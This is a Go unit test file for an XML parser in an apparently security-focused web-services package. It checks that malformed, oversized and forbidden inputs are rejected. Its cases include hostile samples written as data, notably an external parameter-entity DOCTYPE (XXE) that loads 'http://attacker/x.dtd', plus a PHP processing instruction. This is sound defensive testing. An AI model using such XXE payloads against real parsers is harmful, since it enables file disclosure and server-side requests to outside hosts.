package wssec

import (
	"strings"
	"testing"
)

func TestParseXML(t *testing.T) {
	small := Limits{MaxBytes: 4096, MaxDepth: 4, MaxElements: 6, MaxAttributes: 3}.withDefaults()
	cases := []struct {
		name string
		in   string
		code Code
	}{
		{name: "plain", in: `<a><b/></a>`},
		{name: "declaration-first", in: `<?xml version="1.0" encoding="utf-8"?><a/>`},
		{name: "utf8-byte-order-mark", in: "\xEF\xBB\xBF<?xml version=\"1.0\"?><a/>"},
		{name: "comments-and-cdata", in: `<!-- c --><a><![CDATA[x<y]]><!-- d --></a>`},
		{name: "whitespace-around-root", in: "\n <a/>\n"},
		{name: "declaration-not-first", in: ` <?xml version="1.0"?><a/>`, code: CodeForbidden},
		{name: "stylesheet-pi", in: `<?xml-stylesheet href="x"?><a/>`, code: CodeForbidden},
		{name: "pi-inside", in: `<a><?php echo 1; ?></a>`, code: CodeForbidden},
		{name: "doctype", in: `<!DOCTYPE a><a/>`, code: CodeForbidden},
		{name: "parameter-entity-dtd", in: `<!DOCTYPE a [<!ENTITY % e SYSTEM "http://attacker/x.dtd"> %e;]><a/>`, code: CodeForbidden},
		{name: "two-roots", in: `<a/><b/>`, code: CodeMalformed},
		{name: "text-after-root", in: `<a/>junk`, code: CodeMalformed},
		{name: "empty", in: ``, code: CodeMalformed},
		{name: "mismatched", in: `<a><b></a>`, code: CodeMalformed},
		{name: "unclosed", in: `<a><b/>`, code: CodeMalformed},
		{name: "mismatched-prefix", in: `<p:a xmlns:p="urn:x"></q:a>`, code: CodeMalformed},
		{name: "undeclared-prefix-binding", in: `<a xmlns:p=""/>`, code: CodeMalformed},
		{name: "xmlns-prefix-bound", in: `<a xmlns:xmlns="urn:x"/>`, code: CodeMalformed},
		{name: "xml-prefix-rebound", in: `<a xmlns:xml="urn:x"/>`, code: CodeMalformed},
		{name: "xml-namespace-other-prefix", in: `<a xmlns:x="http://www.w3.org/XML/1998/namespace"/>`, code: CodeMalformed},
		{name: "xml-namespace-as-default", in: `<a xmlns="http://www.w3.org/XML/1998/namespace"/>`, code: CodeMalformed},
		{name: "xml-prefix-declared-correctly", in: `<a xmlns:xml="http://www.w3.org/XML/1998/namespace"/>`},
		{name: "namespaced-attributes-differ", in: `<a xmlns:p="urn:x" xmlns:q="urn:y" p:i="1" q:i="2"/>`},
		{name: "invalid-utf8", in: "<a>\xff\xfe</a>", code: CodeMalformed},
		{name: "utf16-declared", in: `<?xml version="1.0" encoding="UTF-16"?><a/>`, code: CodeMalformed},
		{name: "duplicate-attribute", in: `<a x="1" x="2"/>`, code: CodeMalformed},
		{name: "duplicate-namespaced-attribute", in: `<a xmlns:p="urn:x" xmlns:q="urn:x" p:i="1" q:i="2"/>`, code: CodeMalformed},
		{name: "duplicate-attribute-many", in: `<a a1="" a2="" a3="" a4="" a5="" a6="" a7="" a8="" a9="" a1=""/>`, code: CodeMalformed},
		{name: "too-deep", in: `<a><a><a><a><a/></a></a></a></a>`, code: CodeTooLarge},
		{name: "too-many-elements", in: `<a><b/><b/><b/><b/><b/><b/></a>`, code: CodeTooLarge},
		{name: "too-many-attributes", in: `<a w="" x="" y="" z=""/>`, code: CodeTooLarge},
		{name: "oversize", in: "<a>" + strings.Repeat("x", 5000) + "</a>", code: CodeTooLarge},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			l := small
			if strings.HasPrefix(tc.name, "duplicate-") || strings.HasPrefix(tc.name, "namespaced-") {
				l.MaxAttributes = 64
			}
			_, err := parseXML([]byte(tc.in), l)
			if CodeOf(err) != tc.code {
				t.Fatalf("got %v, want code %q", err, tc.code)
			}
		})
	}
}
